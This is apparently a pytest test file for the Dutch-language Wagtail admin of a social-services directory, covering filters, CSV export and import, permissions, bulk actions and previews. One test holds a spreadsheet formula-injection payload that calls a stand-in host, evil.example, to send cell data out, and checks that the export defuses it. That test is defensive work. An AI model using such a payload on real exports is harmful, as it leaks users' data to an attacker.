"""The kaart in the admin: listing filters, search, export, import with preview, bulk action."""

import base64
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from wagtail.models import Revision

from kaart.csv_io import KOLOMMEN
from kaart.factories import DienstFactory
from kaart.models import Dienst, Term

LIST = "wagtailsnippets_kaart_dienst:list"
IMPORT = "wagtailsnippets_kaart_dienst:import"

GOOD_CSV = (
    "extern_id;naam;samenvatting;doelgroep;kosten_bedrag;gemeenten\r\n"
    "adm-1;Samen eten;Elke vrijdag samen aan tafel.;ouderen|alleenstaanden;3,50;GM0344\r\n"
    "adm-2;Wandelmaatje;Een vrijwilliger wandelt met u.;iedereen;0;\r\n"
).encode("utf-8-sig")
BAD_CSV = (
    b"extern_id,naam,samenvatting,doelgroep,kosten_bedrag\n"
    b"adm-1,Samen eten,Elke vrijdag samen aan tafel.,ouderen,3.50\n"
    b"adm-2,,Zonder naam.,bejaarden,veel\n"
)


def listing_names(response):
    return [d.naam for d in response.context["object_list"]]


@pytest.fixture
def diensten(db):
    oud = timezone.localdate() - datetime.timedelta(days=400)
    return {
        "lokaal": DienstFactory(
            naam="Buurtkamer Oost",
            aanbieder="Welzijn Oost",
            laatst_gecontroleerd=timezone.localdate(),
            termen={"financiering": ["gesubsidieerd"], "doelgroep": ["ouderen"]},
            gemeente_codes=["GM0344"],
        ),
        "landelijk": DienstFactory(
            naam="Chatlijn",
            landelijk=True,
            laatst_gecontroleerd=oud,
            termen={"financiering": ["gratis"], "doelgroep": ["jongeren"]},
        ),
        "concept": DienstFactory(naam="Nieuw initiatief", live=False),
    }


def test_listing_filters(admin_client, diensten):
    url = reverse(LIST)
    response = admin_client.get(url)
    assert response.status_code == 200
    assert listing_names(response) == ["Buurtkamer Oost", "Chatlijn", "Nieuw initiatief"]
    financiering = Term.objects.get(vocabulaire="financiering", slug="gratis")
    doelgroep = Term.objects.get(vocabulaire="doelgroep", slug="ouderen")
    cases = {
        "status=concept": ["Nieuw initiatief"],
        "status=gepubliceerd": ["Buurtkamer Oost", "Chatlijn"],
        f"financiering={financiering.pk}": ["Chatlijn"],
        f"doelgroep={doelgroep.pk}": ["Buurtkamer Oost"],
        "gemeente=GM0344": ["Buurtkamer Oost"],
        "landelijk=true": ["Chatlijn"],
        "landelijk=false": ["Buurtkamer Oost", "Nieuw initiatief"],
        "verouderd=ja": ["Chatlijn", "Nieuw initiatief"],
        "verouderd=nee": ["Buurtkamer Oost"],
        "q=buurtkamer": ["Buurtkamer Oost"],
        "q=welzijn": ["Buurtkamer Oost"],
    }
    for query, names in cases.items():
        assert listing_names(admin_client.get(f"{url}?{query}")) == names, query


def test_status_filter_knows_pending_changes(admin_client, diensten):
    dienst = diensten["lokaal"]
    draft = dienst.get_latest_revision_as_object()
    draft.naam = "Buurtkamer Oost (nieuw)"
    draft.save_revision()
    response = admin_client.get(reverse(LIST) + "?status=wijzigingen")
    assert [d.pk for d in response.context["object_list"]] == [dienst.pk]
    # "Op de site" counts it too: the public sees its live version
    response = admin_client.get(reverse(LIST) + "?status=gepubliceerd")
    assert listing_names(response) == ["Buurtkamer Oost", "Chatlijn"]


def test_the_admin_counts_as_many_services_on_the_site_as_the_site(admin_client, diensten):
    from django.http import QueryDict

    from kaart.queries import parse_zoekvraag, zoek_diensten

    draft = diensten["landelijk"].get_latest_revision_as_object()
    draft.samenvatting = "Een wijziging die nog wacht."
    draft.save_revision()
    DienstFactory.create_batch(3)
    response = admin_client.get(reverse(LIST) + "?status=gepubliceerd")
    op_de_site = zoek_diensten(parse_zoekvraag(QueryDict(""))).count
    assert response.context["paginator"].count == op_de_site == 5
    assert "Op de site (gepubliceerd)" in response.content.decode()


def test_export_of_the_current_filter(admin_client, diensten):
    response = admin_client.get(reverse(LIST) + "?landelijk=false&export=csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="diensten-')
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == KOLOMMEN
    assert [row[1] for row in rows[1:]] == ["Buurtkamer Oost"]  # the draft only when asked for
    listing = admin_client.get(reverse(LIST) + "?landelijk=false")
    assert b"CSV exporteren" in listing.content and b"CSV importeren" in listing.content
    assert b"CSV exporteren, met concepten" in listing.content
    response = admin_client.get(reverse(LIST) + "?landelijk=false&export=csv&concepten=ja")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row[1] for row in rows[1:]) == ["Buurtkamer Oost", "Nieuw initiatief"]


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


def test_export_runs_no_formula_from_a_submitted_service(admin_client, diensten):
    DienstFactory(naam=HYPERLINK, aanbieder="@Buurtzorg", live=False)  # as the public form makes it
    response = admin_client.get(reverse(LIST) + "?export=csv&concepten=ja")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    rij = next(row for row in rows if "HYPERLINK" in row[1])
    assert rij[1] == "'" + HYPERLINK and rij[KOLOMMEN.index("aanbieder")] == "'@Buurtzorg"
    assert not [cel for row in rows for cel in row if cel.startswith(("=", "+", "-", "@"))]
    response = admin_client.get(reverse(LIST) + "?export=csv")
    assert "HYPERLINK" not in response.content.decode("utf-8-sig")  # a draft: left out


def upload(client, data, name="diensten.csv"):
    return client.post(
        reverse(IMPORT), {"bestand": SimpleUploadedFile(name, data, content_type="text/csv")}
    )


def test_import_shows_a_preview_and_saves_nothing_until_confirmed(admin_client, db):
    response = admin_client.get(reverse(IMPORT))
    assert response.status_code == 200
    response = upload(admin_client, GOOD_CSV)
    assert response.status_code == 200
    plan = response.context["plan"]
    assert plan.geldig and (plan.nieuw, plan.gewijzigd) == (2, 0)
    assert "Nieuwe dienst" in response.content.decode()
    assert Dienst.objects.count() == 0

    form = response.context["bevestig_form"]
    confirm = {name: form.initial[name] for name in ("inhoud", "handtekening")}
    response = admin_client.post(reverse(IMPORT), {**confirm, "bevestig": "1"})
    assert response.status_code == 302 and response.url == reverse(LIST)
    samen = Dienst.objects.get(extern_id="adm-1")
    assert samen.live and samen.kosten_bedrag == Decimal("3.50")
    assert samen.latest_revision.user is not None

    # The same file again: nothing to do, and the page says so.
    response = upload(admin_client, GOOD_CSV)
    assert response.context["plan"].ongewijzigd == 2
    assert "verandert niets" in response.content.decode()


def test_import_lists_every_error_with_row_and_column(admin_client, db):
    response = upload(admin_client, BAD_CSV)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Er is niets geïmporteerd." in html
    fouten = [(f.rij, f.kolom) for f in response.context["plan"].fouten]
    assert fouten == [(3, "naam"), (3, "kosten_bedrag"), (3, "doelgroep")]
    for kolom in ("naam", "kosten_bedrag", "doelgroep"):
        assert f"<code>{kolom}</code>" in html
    assert "bevestig_form" not in response.context
    assert Dienst.objects.count() == 0


def test_a_tampered_confirmation_imports_nothing(admin_client, db):
    response = upload(admin_client, GOOD_CSV)
    form = response.context["bevestig_form"]
    other = base64.b64encode(BAD_CSV).decode()
    response = admin_client.post(
        reverse(IMPORT),
        {"inhoud": other, "handtekening": form.initial["handtekening"], "bevestig": "1"},
    )
    assert response.status_code == 302 and response.url == reverse(IMPORT)
    assert Dienst.objects.count() == 0


def test_import_checks_again_when_confirming(admin_client, db):
    response = upload(admin_client, GOOD_CSV)
    form = response.context["bevestig_form"]
    Term.objects.filter(vocabulaire="doelgroep", slug="alleenstaanden").delete()
    response = admin_client.post(
        reverse(IMPORT),
        {
            "inhoud": form.initial["inhoud"],
            "handtekening": form.initial["handtekening"],
            "bevestig": "1",
        },
    )
    assert response.status_code == 200
    assert [(f.rij, f.kolom) for f in response.context["plan"].fouten] == [(2, "doelgroep")]
    assert Dienst.objects.count() == 0


def test_import_needs_permission_to_publish(client, django_user_model, db):
    editor = django_user_model.objects.create_user("redacteur", password="x")
    group = Group.objects.create(name="Kaartredactie zonder publiceren")
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="add_dienst"),
        Permission.objects.get(codename="change_dienst"),
    )
    editor.groups.add(group)
    client.force_login(editor)
    # Wagtail's admin answers a permission error with a redirect to the dashboard.
    refused = client.get(reverse(IMPORT))
    assert (refused.status_code, refused.url) == (302, "/beheer/")
    assert upload(client, GOOD_CSV).status_code == 302
    assert not Dienst.objects.exists()
    group.permissions.add(Permission.objects.get(codename="publish_dienst"))
    editor = django_user_model.objects.get(pk=editor.pk)
    client.force_login(editor)
    assert client.get(reverse(IMPORT)).status_code == 200


def test_bulk_action_marks_services_as_verified_today(admin_client, diensten):
    landelijk, concept = diensten["landelijk"], diensten["concept"]
    ids = f"id={landelijk.pk}&id={concept.pk}"
    url = f"/beheer/bulk/kaart/dienst/gecontroleerd/?next={reverse(LIST)}&{ids}"
    response = admin_client.get(url)
    assert response.status_code == 200
    assert "Markeren als gecontroleerd" in response.content.decode()
    response = admin_client.post(url)
    assert response.status_code == 302
    landelijk.refresh_from_db()
    concept.refresh_from_db()
    today = timezone.localdate()
    # Published without pending changes: published again with today's date.
    assert landelijk.laatst_gecontroleerd == today and not landelijk.has_unpublished_changes
    # A draft keeps being a draft; the date is in its new revision.
    assert not concept.live
    assert concept.get_latest_revision_as_object().laatst_gecontroleerd == today
    assert Revision.objects.filter(object_id=str(landelijk.pk)).count() == 1


def test_edit_form_saves_characteristics_and_places(admin_client, db):
    add_url = reverse("wagtailsnippets_kaart_dienst:add")
    response = admin_client.get(add_url)
    assert response.status_code == 200
    html = response.content.decode()
    for tab in ("Wat is het", "Kenmerken", "Voorwaarden en kosten", "Contact en plaats"):
        assert tab in html
    ouderen = Term.objects.get(vocabulaire="doelgroep", slug="ouderen")
    groep = Term.objects.get(vocabulaire="vorm", slug="groep")
    structureel = Term.objects.get(vocabulaire="frequentie", slug="structureel")
    from kaart.models import Gemeente

    utrecht = Gemeente.objects.get(code="GM0344")
    response = admin_client.post(
        add_url,
        {
            "naam": "Zangkoor De Merel",
            "samenvatting": "Elke week samen zingen.",
            "doelgroep": [ouderen.pk],
            "vorm": [groep.pk],
            "frequentie": structureel.pk,
            "gemeenten": [utrecht.pk],
            "kosten_bedrag": "2.00",
            "extern_id": "koor-1",
            "laatst_gecontroleerd": "2020-01-01",  # read-only: not taken from the form
            "postcode": "3511ab",
            "action-publish": "publish",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    koor = Dienst.objects.get(extern_id="koor-1")
    assert koor.live
    assert koor.slugs("doelgroep") == ["ouderen"] and koor.slugs("frequentie") == ["structureel"]
    assert [g.code for g in koor.gemeenten.all()] == ["GM0344"]
    assert koor.postcode == "3511 AB"
    assert koor.laatst_gecontroleerd is None
    edit = admin_client.get(reverse("wagtailsnippets_kaart_dienst:edit", args=[koor.pk]))
    assert edit.status_code == 200


def test_edit_form_refuses_an_age_range_upside_down(admin_client, db):
    response = admin_client.post(
        reverse("wagtailsnippets_kaart_dienst:add"),
        {
            "naam": "X",
            "samenvatting": "Y",
            "extern_id": "x-1",
            "leeftijd_min": "70",
            "leeftijd_max": "60",
        },
    )
    assert response.status_code == 200
    assert "leeftijd_max" in response.context["form"].errors
    assert not Dienst.objects.exists()


def test_preview_shows_the_public_page_and_the_card(admin_client, diensten):
    dienst = diensten["lokaal"]
    url = reverse("wagtailsnippets_kaart_dienst:preview_on_edit", args=[dienst.pk])
    ouderen = Term.objects.get(vocabulaire="doelgroep", slug="ouderen")
    groep = Term.objects.get(vocabulaire="vorm", slug="groep")
    data = {
        "naam": "Buurtkamer Oost",
        "samenvatting": "Een nieuwe samenvatting, nog niet gepubliceerd.",
        "extern_id": dienst.extern_id,
        "doelgroep": [ouderen.pk],
        "vorm": [groep.pk],
        "kosten_bedrag": "0",
    }
    assert admin_client.post(url, data).json()["is_valid"] is True
    page = admin_client.get(url).content.decode()
    assert "Een nieuwe samenvatting, nog niet gepubliceerd." in page
    assert "In een groep" in page  # the characteristics rows of the public page
    card = admin_client.get(url + "?mode=kaartje").content.decode()
    assert "Zo staat deze dienst in de zoekresultaten" in card
    assert "Een nieuwe samenvatting, nog niet gepubliceerd." in card
    # The live service is unchanged.
    dienst.refresh_from_db()
    assert dienst.samenvatting != data["samenvatting"]


def test_preview_of_a_new_service(admin_client, db):
    url = reverse("wagtailsnippets_kaart_dienst:preview_on_add")
    data = {"naam": "Nieuw", "samenvatting": "Nog nergens te zien.", "extern_id": "nieuw-1"}
    assert admin_client.post(url, data).json()["is_valid"] is True
    for mode in ("", "kaartje"):
        response = admin_client.get(f"{url}?mode={mode}")
        assert response.status_code == 200
        assert "Nog nergens te zien." in response.content.decode()


def test_vocabulary_terms_are_editable_snippets(admin_client, db):
    response = admin_client.get(reverse("wagtailsnippets_kaart_term:list") + "?vocabulaire=plek")
    assert response.status_code == 200
    assert [t.slug for t in response.context["object_list"]] == [
        "aan-huis",
        "buitenshuis",
        "online",
        "telefonisch",
    ]
